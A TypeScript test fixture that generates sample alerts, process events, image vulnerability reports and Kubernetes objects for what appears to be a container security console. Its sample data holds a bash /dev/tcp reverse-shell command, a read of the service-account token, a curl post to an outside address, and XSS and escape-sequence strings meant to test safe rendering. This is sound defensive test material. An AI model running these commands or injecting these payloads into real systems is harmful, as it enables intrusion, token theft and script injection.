import {
  packagesOnly,
  plainPackage,
  type AgentRecord,
  type Alert,
  type Ancestor,
  type Component,
  type Container,
  type AuditEvent,
  type ContainerRef,
  type KubeObject,
  type ProcessEvent,
  type ImageReport,
  type InstalledPackage,
  type Severity,
  type Vulnerability,
  type Weakness,
} from "@bulwark/model";
import type { World } from "./world.ts";

const hour = 3_600_000;
const nodes = ["node-a", "node-b", "edge-01"] as const;

const images = [
  "registry.example/shop/checkout:2.14.1",
  "registry.example/shop/catalogue:5.3.0",
  "docker.io/library/nginx:1.27.2",
  "docker.io/library/postgres:16.4",
  "quay.io/prometheus/node-exporter:v1.8.2",
  "registry.example/platform/very-long-team-name/build-artifacts-cache-warmer:2026.11.23-rc.4-g8f3c1d2",
  "docker.io/library/redis:7.4-alpine",
  "ghcr.io/example/worker:main",
];

function digestOf(n: number): string {
  return `sha256:${(n * 0x9e37_79b1 + 0x51).toString(16).repeat(12).slice(0, 64).padEnd(64, "a")}`;
}

export function sampleContainer(n: number, change: Partial<Container> = {}): Container {
  const image = images[n % images.length] ?? "";
  const short = image.split("/").at(-1)?.split(":")[0] ?? "app";
  const inPod = n % 5 !== 0;
  const isStopped = n % 9 === 8;
  return {
    id: (n * 7919 + 0xabc_def).toString(16).repeat(11).slice(0, 64),
    node: nodes[n % nodes.length] ?? "node-a",
    runtime: inPod ? "containerd" : "docker",
    runtimeNamespace: inPod ? "k8s.io" : "moby",
    name: inPod ? short : `${short}-${n}`,
    image: { name: image, digest: digestOf(n % images.length) },
    labels: {
      "app.kubernetes.io/name": short,
      "app.kubernetes.io/part-of": "shop",
      tier: n % 2 === 0 ? "web" : "data",
    },
    pod: inPod
      ? {
          name: `${short}-7d9c5b6f4-${n.toString(36)}x2k`,
          namespace: n % 2 === 0 ? "shop" : "platform",
          uid: `uid-${n}`,
          container: short,
        }
      : null,
    state: isStopped ? "stopped" : "running",
    startedAt: Date.now() - (n + 1) ** 2 * 17 * 60_000,
    finishedAt: isStopped ? Date.now() - n * 60_000 : null,
    pid: isStopped ? null : 4000 + n,
    rootfs: `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${n}/rootfs`,
    mounts: [
      {
        source: "/var/lib/kubelet/pods/uid/volumes/token",
        target: "/var/run/secrets/kubernetes.io/serviceaccount",
        type: "bind",
        readOnly: true,
      },
      { source: "/dev/shm", target: "/dev/shm", type: "bind", readOnly: false },
    ],
    capabilities:
      n === 4
        ? ["CAP_CHOWN", "CAP_SYS_ADMIN", "CAP_NET_ADMIN", "CAP_SYS_PTRACE"]
        : ["CAP_CHOWN", "CAP_NET_BIND_SERVICE", "CAP_SETGID", "CAP_SETUID"],
    privileged: n === 4 || n === 12,
    hostNamespaces: n === 4 ? ["pid", "net"] : n === 12 ? ["net"] : [],
    ...change,
  };
}

function refOf({ id, name, runtime, image, pod, labels }: Container): ContainerRef {
  return { id, name, runtime, image, pod, labels };
}

const server: Ancestor = {
  pid: 3100,
  startTime: "900",
  name: "node",
  executable: "/usr/local/bin/node",
  arguments: ["node", "server.js", "--port", "8080"],
  uid: 1000,
};
const init: Ancestor = {
  pid: 3088,
  startTime: "890",
  name: "tini",
  executable: "/sbin/tini",
  arguments: ["/sbin/tini", "--", "node", "server.js"],
  uid: 1000,
};

function processOf(n: number, executable: string, words: string[]): ProcessEvent["process"] {
  return {
    pid: 5000 + n,
    containerPid: 40 + n,
    parentPid: server.pid,
    startTime: String(1000 + n),
    name: executable.split("/").at(-1)?.slice(0, 15) ?? "",
    executable,
    arguments: words,
    argumentsCut: false,
    workingDirectory: "/srv/app",
    uid: 1000,
    gid: 1000,
    effectiveUid: 1000,
    capabilities: "00000000a80425fb",
    origin: "image",
    stdio: [],
  };
}

export function reverseShell(n: number, time: number, container: Container, change: Partial<Alert> = {}): Alert {
  return {
    id: `${container.node}/boot/alert-${n}`,
    time,
    node: container.node,
    rule: "reverse-shell",
    title: "Shell connected to the network",
    description: "The standard input or output of a shell or interpreter is a network socket.",
    remedy: "Look at the peer.",
    severity: "critical",
    techniques: ["T1059.004"],
    attribution: "container",
    container: refOf(container),
    process: processOf(n, "/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"]),
    ancestors: [server, init],
    evidence: [
      { key: "peer", value: `198.51.100.${(n * 7) % 250}:4444` },
      { key: "local", value: "10.42.0.17:51234" },
      { key: "descriptor", value: "0" },
      { key: "direction", value: "outgoing" },
      { key: "program", value: "/bin/bash" },
    ],
    events: [`${container.node}/boot/${n * 10 + 3}`],
    ...change,
  };
}

function drift(n: number, time: number, container: Container, change: Partial<Alert> = {}): Alert {
  return reverseShell(n, time, container, {
    rule: "drift",
    title: "Program that is not in the image",
    severity: "high",
    techniques: ["T1105"],
    process: {
      ...processOf(n, "/tmp/.x/kdevtmpfsi", ["/tmp/.x/kdevtmpfsi", "--threads", "8"]),
      origin: "writable-layer",
    },
    evidence: [
      { key: "file", value: "/tmp/.x/kdevtmpfsi" },
      { key: "origin", value: "writable-layer" },
    ],
    ...change,
  });
}

/** A rule that the console does not know, with text that tries to be more than text. */
function foreign(n: number, time: number, container: Container): Alert {
  return reverseShell(n, time, container, {
    rule: "custom-egress",
    title: "<img src=x onerror=alert(1)> odd \u202eegress",
    severity: "medium",
    techniques: ["T1571"],
    process: processOf(n, "/usr/bin/curl", [
      "curl",
      "-d",
      `payload\u001b[31m\nline two ${"A".repeat(900)}`,
      "http://203.0.113.9/",
    ]),
    evidence: [{ key: "destination", value: "203.0.113.9:80" }],
  });
}

function eventsAround(n: number, time: number, container: Container): ProcessEvent[] {
  const base = {
    node: container.node,
    attribution: "container" as const,
    container: refOf(container),
    ancestors: [server, init],
    exitCode: null,
    connection: null,
  };
  const event = (
    k: number,
    offset: number,
    change: Partial<ProcessEvent> & Pick<ProcessEvent, "kind" | "process">,
  ): ProcessEvent => ({
    ...base,
    id: `${container.node}/boot/${n * 10 + k}`,
    time: time + offset,
    ...change,
  });
  const shell = processOf(n, "/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"]);
  return [
    event(1, -4200, { kind: "exec", process: processOf(n, "/bin/sh", ["sh", "-c", "id; uname -a"]) }),
    event(2, -3900, { kind: "exit", process: processOf(n, "/bin/sh", ["sh"]), exitCode: 0 }),
    event(3, -20, { kind: "exec", process: shell }),
    event(4, 0, {
      kind: "connect",
      process: shell,
      connection: {
        protocol: "tcp",
        local: { ip: "10.42.0.17", port: 51_234 },
        remote: { ip: `198.51.100.${(n * 7) % 250}`, port: 4444 },
      },
    }),
    event(5, 2300, { kind: "exec", process: processOf(n, "/usr/bin/id", ["id"]) }),
    event(6, 9100, {
      kind: "exec",
      process: processOf(n, "/bin/cat", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]),
    }),
    event(7, 15_400, { kind: "exit", process: shell, exitCode: 9 }),
  ];
}

function reportOf(n: number): ImageReport {
  const isAlpine = n === 6;
  const packages = Array.from({ length: 180 + n * 37 }, (_, k): InstalledPackage => {
    const name =
      ["libssl3", "libc6", "zlib1g", "curl", "bash", "coreutils", "perl-base", "libxml2"][k] ?? `lib-sample-${k}`;
    const version = `${1 + (k % 4)}.${k % 17}.${k % 5}-1+deb12u${k % 3}`;
    return {
      type: isAlpine ? "apk" : "deb",
      name,
      version,
      architecture: "amd64",
      source: { name: name.replace(/\d+$/, ""), version },
      purl: `pkg:${isAlpine ? "apk/alpine" : "deb/debian"}/${name}@${version}?arch=amd64`,
      licences: ["MIT"],
      location: isAlpine ? "/lib/apk/db/installed" : "/var/lib/dpkg/status",
      layer: digestOf(k % 6),
      ...plainPackage,
    };
  });
  const name = images[n] ?? "";
  return {
    key: `${name}@${digestOf(n)}`,
    name,
    digest: digestOf(n),
    source: n === 7 ? "rootfs" : "image",
    scannedAt: Date.now() - n * 3 * hour,
    durationMs: 2300,
    inventory: {
      os: isAlpine
        ? { id: "alpine", version: "3.20", name: "Alpine Linux v3.20" }
        : { id: "debian", version: "12", name: "Debian GNU/Linux 12 (bookworm)" },
      packages,
      extractors: [
        n === 3
          ? {
              extractor: "dpkg",
              state: "partial",
              errors: [{ path: "/var/lib/dpkg/status", message: "entry 214 has no version" }],
            }
          : { extractor: "dpkg", state: "done", errors: [] },
      ],
    },
    ...packagesOnly,
  };
}

const summaries = [
  "A heap buffer overflow in the handling of malformed certificates lets a remote attacker crash the process or run code of their own.",
  "Improper validation of a length field leads to an out-of-bounds read. An attacker who controls the input can read memory of the process.",
  "A use-after-free in the parser of compressed streams may be triggered by a crafted archive.",
];
const spread: Severity[] = [
  "high",
  "medium",
  "low",
  "medium",
  "critical",
  "low",
  "negligible",
  "high",
  "medium",
  "unknown",
];

function vulnerabilityOf(n: number, image: number): Vulnerability {
  const severity = spread[(n + image) % spread.length] ?? "low";
  const score = { critical: 9.8, high: 8.1, medium: 5.9, low: 3.1, negligible: 0, unknown: 0 }[severity];
  const name = ["openssl", "glibc", "zlib", "curl", "bash", "coreutils", "perl", "libxml2"][n % 8] ?? "openssl";
  const isFixed = n % 3 !== 1;
  return {
    id: `CVE-202${4 + (n % 3)}-${10_000 + n * 137 + image}`,
    aliases: n % 4 === 0 ? [`DSA-5${n}-1`, `GHSA-xxxx-${n}`] : [],
    package: n % 2 === 0 ? `lib${name}3` : name,
    source: name,
    version: `3.0.${n % 20}-1~deb12u2`,
    purl: `pkg:deb/debian/${name}@3.0.${n % 20}-1~deb12u2?arch=amd64`,
    fixedVersion: isFixed ? `3.0.${n % 20}-1~deb12u5` : null,
    state: isFixed ? "fixed" : n % 2 === 0 ? "wont-fix" : "unfixed",
    severity,
    cvss: score > 0 ? { score, vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H" } : null,
    summary: summaries[n % summaries.length] ?? "",
    exploited: n % 41 === 4,
    epss: n % 3 === 0 ? (n % 100) / 100 : null,
    published: "2025-03-18T10:00:00Z",
    references: ["https://nvd.example/vuln/detail", "javascript:alert(1)", `https://lists.example/oss-security/${n}`],
    feed: "osv:Debian",
  };
}

function weaknessOf(vulnerability: Vulnerability, n: number): Weakness {
  return {
    kind: "vulnerability",
    locations: ["/var/lib/dpkg/status"],
    layer: digestOf(n % 6),
    step: "RUN /bin/sh -c apt-get update && apt-get install -y --no-install-recommends ca-certificates",
    origin: n % 2 === 0 ? "base" : "application",
    vulnerability,
  };
}

/** How the `n`th node's agent is. */
export function healthOf(node: string, n: number): Component[] {
  const base = { node, reason: "", remedy: "", updatedAt: Date.now() };
  const isOff = n === 2;
  return [
    {
      ...base,
      id: "sensor",
      state: isOff ? "off" : n === 1 ? "degraded" : "ok",
      summary: isOff
        ? "What containers do is not seen"
        : "Sees what containers do (exec: sched_process_exec, connect: fentry)",
      reason: isOff
        ? "the kernel has no BTF (/sys/kernel/btf/vmlinux)"
        : n === 1
          ? "214 events were lost since the sensor started"
          : "",
      remedy: isOff
        ? "use a kernel that is built with CONFIG_DEBUG_INFO_BTF"
        : n === 1
          ? "the machine was too busy to keep up; give it more processors, or fewer events"
          : "",
      counters: { events: 184_220 + n, alerts: 14, restarts: n, "lost.ring": n === 1 ? 214 : 0, "lost.pipe": 0 },
    },
    {
      ...base,
      id: "runtime:containerd",
      state: "ok",
      summary: "Answers at /run/containerd/containerd.sock",
      counters: { containers: 12 },
    },
    {
      ...base,
      id: "spool",
      state: "ok",
      summary: "0 records wait to be sent (0.0 MB of 1000)",
      counters: { sent: 40_112, waiting: 0, bytes: 16_384, "lost.spool": 0 },
    },
    {
      ...base,
      id: "image-scan",
      state: "ok",
      summary: "8 images scanned, 0 wait",
      counters: { scanned: 8, failed: 0, waiting: 0 },
    },
  ];
}

/** Fills a world with what a small cluster might have on a bad day. */
export async function fill(world: World, { containers = 26, alerts = 46 } = {}): Promise<void> {
  const now = Date.now();
  const all = Array.from({ length: containers }, (_, n) => sampleContainer(n));
  for (const [index, node] of nodes.entries()) {
    const mine = all.filter((container) => container.node === node);
    const records: AgentRecord[] = mine.map((container) => ({ type: "container", container }));
    for (let n = 0; n < alerts; n++) {
      const container = mine[n % mine.length];
      if (n % nodes.length !== index || !container) continue;
      const time = now - Math.round((n ** 1.7 / alerts ** 1.7) * 23 * hour) - 40_000;
      records.push(...eventsAround(n, time, container).map((event) => ({ type: "event", event }) as const));
      const alert =
        n % 11 === 5
          ? foreign(n, time, container)
          : n % 3 === 0
            ? drift(n, time, container)
            : reverseShell(n, time, container, n % 7 === 6 ? { severity: "low" } : {});
      records.push({ type: "alert", alert });
    }
    records.push({ type: "health", components: healthOf(node, index) });
    await world.send(node, records);
  }
  const reports = images.map((_, n) => reportOf(n));
  await world.send(
    "node-a",
    reports.map((report) => ({ type: "image", report })),
  );
  for (const [n, report] of reports.entries()) {
    const found = Array.from({ length: n === 6 ? 0 : 140 - n * 17 }, (_, k) => weaknessOf(vulnerabilityOf(k, n), n));
    await world.server.store.findings.replace(report.key, found, ["vulnerability"], now - n * hour);
  }
  await fillCluster(world, all, now);
}

/** The cluster that the containers' pods are of, as its API server would tell of it. */
async function fillCluster({ server }: World, containers: Container[], now: number): Promise<void> {
  const { kubernetes, events } = server.store;
  const base = { cluster: "east", owner: null, node: null, status: "", healthy: true, facts: [], containers: [] };
  const named = (kind: string, name: string, change: Partial<KubeObject> = {}): KubeObject => {
    const uid = `uid-${kind}-${change.namespace ?? ""}-${name}`;
    return {
      ...base,
      uid,
      kind,
      apiVersion: "v1",
      namespace: "",
      name,
      labels: {},
      createdAt: now - 90 * hour,
      ...change,
    };
  };
  const ref = ({ kind, apiVersion, name, uid }: KubeObject): NonNullable<KubeObject["owner"]> => {
    return { kind, apiVersion, name, uid };
  };
  const objects = [
    ...["shop", "platform", "kube-system"].map((name) => named("Namespace", name, { status: "Active" })),
    ...nodes.map((name, n) =>
      named("Node", name, {
        status: n === 2 ? "NotReady" : "Ready",
        healthy: n !== 2,
        facts: [{ key: "kubelet", value: "v1.36.3" }],
      }),
    ),
    named("Node", "edge-02", { status: "Ready" }),
    named("Service", "checkout", { namespace: "shop", status: "ClusterIP" }),
  ];
  for (const { pod, node, image, id, labels } of containers) {
    if (!pod) continue;
    const { namespace } = pod;
    const own = { namespace, labels: { ...labels, "pod-template-hash": "7d9c5b6f4" }, apiVersion: "apps/v1" };
    const well = { status: "1/1", ...own };
    const deployment = named("Deployment", pod.container, well);
    const replicaSet = named("ReplicaSet", `${pod.container}-7d9c5b6f4`, { ...well, owner: ref(deployment) });
    const isBroken = image.name.includes("worker");
    const container = { name: pod.container, image: image.name, digest: image.digest, id, init: false } as const;
    const state = isBroken
      ? ({ state: "waiting", reason: "CrashLoopBackOff", restarts: 17 } as const)
      : ({ state: "running", reason: "", restarts: 0 } as const);
    objects.push(deployment, replicaSet, {
      ...named("Pod", pod.name, { ...own, owner: ref(replicaSet), node, createdAt: now - 3 * hour }),
      uid: pod.uid,
      status: isBroken ? "CrashLoopBackOff" : "Running",
      healthy: !isBroken,
      facts: [{ key: "serviceAccount", value: "default" }],
      containers: [{ ...container, ...state }],
    });
  }
  const changes = objects.map((object) => ({ type: "put", object }) as const);
  await kubernetes.write("east", changes, now - 20 * hour);
  const known = { uid: "uid-kube-system", version: "v1.36.3", syncedAt: now - 4000, updatedAt: now, counters: {} };
  await kubernetes.putCluster({ ...known, name: "east", state: "ok", reason: "", remedy: "" });
  const away = {
    state: "failed",
    reason: "https://10.4.0.1:6443 does not answer: timeout",
    remedy: "see whether the API server runs",
  } as const;
  await kubernetes.putCluster({ ...known, name: "west", ...away, syncedAt: now - 2 * hour });
  const asked = ["get", "list", "create", "delete"].map((verb, n): AuditEvent => ({
    id: `east/audit/${n}/ResponseComplete`,
    time: now - n * 60_000,
    node: "server",
    kind: "audit",
    audit: {
      cluster: "east",
      stage: "ResponseComplete",
      verb,
      user: n === 2 ? "system:serviceaccount:shop:default" : "jane@example.com",
      groups: [],
      impersonated: "",
      sourceIps: ["192.0.2.10"],
      userAgent: "kubectl",
      object: {
        group: "",
        resource: n === 2 ? "pods" : "secrets",
        subresource: n === 2 ? "exec" : "",
        namespace: "shop",
        name: "checkout",
      },
      uri: "/api/v1/namespaces/shop/secrets/checkout",
      status: n === 3 ? 403 : 200,
      decision: n === 3 ? "forbid" : "allow",
      reason: "",
    },
  }));
  await events.append(asked, now);
}
